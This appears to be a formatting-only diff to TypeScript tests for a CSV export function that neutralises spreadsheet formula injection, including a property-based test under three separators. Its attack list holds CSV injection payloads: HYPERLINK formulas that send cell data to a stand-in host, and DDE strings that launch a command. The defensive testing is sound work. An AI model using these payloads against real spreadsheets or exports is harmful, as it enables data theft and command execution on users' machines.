@@ -14,9 +14,9 @@ const ATTACKS = [
   '=HYPERLINK("http://evil.example/?"&A1,"Click")',
   'Foo;=HYPERLINK("http://evil.example/?"&A1;"x")',
   'Foo;=1+1',
-  'Goris,+cmd|\' /C calc\'!A0',
-  'Martakert;@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "Goris,+cmd|' /C calc'!A0",
+  "Martakert;@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
   '@SUM(1)',
   '\t=1+1',
   '\r=1+1',
@@ -34,9 +34,16 @@ function spreadsheetCells(line: string, separator: string): string[] {
   for (let i = 0; i < line.length; i++) {
     const c = line[i]!;
     if (quoted) {
-      if (c === '"' && line[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
+      if (c === '"' && line[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === separator) { cells.push(cell); cell = ''; } else cell += c;
+    else if (c === separator) {
+      cells.push(cell);
+      cell = '';
+    } else cell += c;
   }
   cells.push(cell);
   return cells;
@@ -55,21 +62,32 @@ describe('csvCell', () => {
   });
 
   it('leaves ordinary text and numbers as they are', () => {
-    expect(csvLine(['Մարտակերտ', 'Goris-2', 'Степанакерт', 0, 42, '#affected+ind+f', 'Female 0-4'])).toBe('Մարտակերտ,Goris-2,Степанакерт,0,42,#affected+ind+f,Female 0-4');
+    expect(csvLine(['Մարտակերտ', 'Goris-2', 'Степанакерт', 0, 42, '#affected+ind+f', 'Female 0-4'])).toBe(
+      'Մարտակերտ,Goris-2,Степанакерт,0,42,#affected+ind+f,Female 0-4',
+    );
     expect(csvCell('a, b')).toBe('"a, b"');
     expect(csvCell('a;b')).toBe('"a;b"');
     expect(csvCell('say "hi"')).toBe('"say ""hi"""');
   });
 
   it('never yields a live formula cell for any text, under any of the three separators', () => {
-    fc.assert(fc.property(fc.array(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', ';', ',', '\t', '"', ' ', 'a', '1', '\r', '\n', '\uFF1D') }), { minLength: 1, maxLength: 4 }), (cells) => {
-      const line = csvLine(cells);
-      // A quoted line break stays inside its cell; read the line as a spreadsheet reads the whole file.
-      for (const separator of [',', ';', '\t']) {
-        for (const cell of spreadsheetCells(line, separator)) if (runsAsFormula(cell)) return false;
-      }
-      return true;
-    }), { numRuns: 2000 });
+    fc.assert(
+      fc.property(
+        fc.array(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', ';', ',', '\t', '"', ' ', 'a', '1', '\r', '\n', '\uFF1D') }), {
+          minLength: 1,
+          maxLength: 4,
+        }),
+        (cells) => {
+          const line = csvLine(cells);
+          // A quoted line break stays inside its cell; read the line as a spreadsheet reads the whole file.
+          for (const separator of [',', ';', '\t']) {
+            for (const cell of spreadsheetCells(line, separator)) if (runsAsFormula(cell)) return false;
+          }
+          return true;
+        },
+      ),
+      { numRuns: 2000 },
+    );
   });
 });
 
@@ -90,7 +108,7 @@ describe('the HXL export', () => {
       }
     }
     const row = spreadsheetCells(lines[2]!, ',');
-    expect(row).toContain('\'Foo;=HYPERLINK(A1)');
-    expect(row).toContain('\'Bar;@SUM(1)');
+    expect(row).toContain("'Foo;=HYPERLINK(A1)");
+    expect(row).toContain("'Bar;@SUM(1)");
   });
 });
